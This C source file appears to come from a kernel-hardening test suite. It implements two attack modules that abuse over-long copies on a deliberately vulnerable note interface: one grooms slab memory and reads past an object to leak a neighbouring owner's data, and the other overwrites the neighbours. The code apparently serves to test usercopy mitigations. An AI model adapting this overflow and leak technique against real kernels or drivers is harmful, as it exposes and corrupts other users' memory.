/*
 * Copies that are longer than the object.  The kernel's own copy routine, at a legal address, with a
 * length that nobody compared with anything: it reads on into the neighbour, whose owner is somebody
 * else (usercopy), or writes over him (usercopy-write).
 */
#include "user/attack/attack.h"
#include "user/attack/notes.h"

#include <stdbool.h>
#include <string.h>

#define PAIRS 100 /* own notes among another's: some lie side by side, however they are shuffled */
#define WRITES 16 /* enough of them; behind the last note of a slab there may be anything */

static uint64_t own[PAIRS];

static void
make_pairs(void)
{
	for (int i = 0; i < PAIRS; i++) {
		static const uint8_t blank[VULN_NOTE_SIZE];

		own[i] = note_new();
		note_write(own[i], blank, sizeof(blank));
		note_secret();
	}
}

static void
begin(void)
{
	notes_begin();
	step("legal: a note is made, written, read and freed");
	note_legally();
	make_pairs();
}

/*
 * What lies behind two of the own notes and is neither an own one nor one that nobody has yet (whose last
 * words are 0) is the other's: all his notes are alike. What is found once is the end of a slab.
 */
static bool
leak(void)
{
	static uint8_t behind[PAIRS][VULN_NOTE_SIZE];
	uint8_t two[2 * VULN_NOTE_SIZE];

	for (int i = 0; i < PAIRS; i++) {
		note_read(own[i], two, sizeof(two));
		memcpy(behind[i], two + VULN_NOTE_SIZE, VULN_NOTE_SIZE);
		if (memcmp(behind[i] + 56, "\0\0\0\0\0\0\0", 8) == 0)
			continue;
		for (int k = 0; k < i; k++) {
			if (memcmp(behind[k], behind[i], VULN_NOTE_SIZE) == 0) {
				memcpy(attack_loot, behind[i], VULN_NOTE_SIZE);
				return true;
			}
		}
	}
	return false;
}

static void
run_read(void)
{
	begin();
	step("illegal: two notes are read where one is");
	while (!leak()) {
		notes_begin();
		make_pairs();
	}
}

static void
run_write(void)
{
	uint64_t two[2 * VULN_NOTE_SIZE / 8];

	for (unsigned i = 0; i < sizeof(two) / sizeof(two[0]); i++)
		two[i] = MAGIC;
	begin();
	step("illegal: two notes are written where one is");
	for (int i = 0; i < WRITES; i++)
		note_write(own[i], two, sizeof(two));
}

ATTACK(usercopy) = {
	.name = "usercopy",
	.what = "a copy longer than the object leaks the neighbour's",
	.needs_off_x86_64 = "usercopy",
	.needs_off_aarch64 = "usercopy",
	.run = run_read,
};

ATTACK(usercopy_write) = {
	.name = "usercopy-write",
	.what = "a copy longer than the object overwrites the neighbour's",
	.needs_off_x86_64 = "usercopy",
	.needs_off_aarch64 = "usercopy",
	.run = run_write,
};
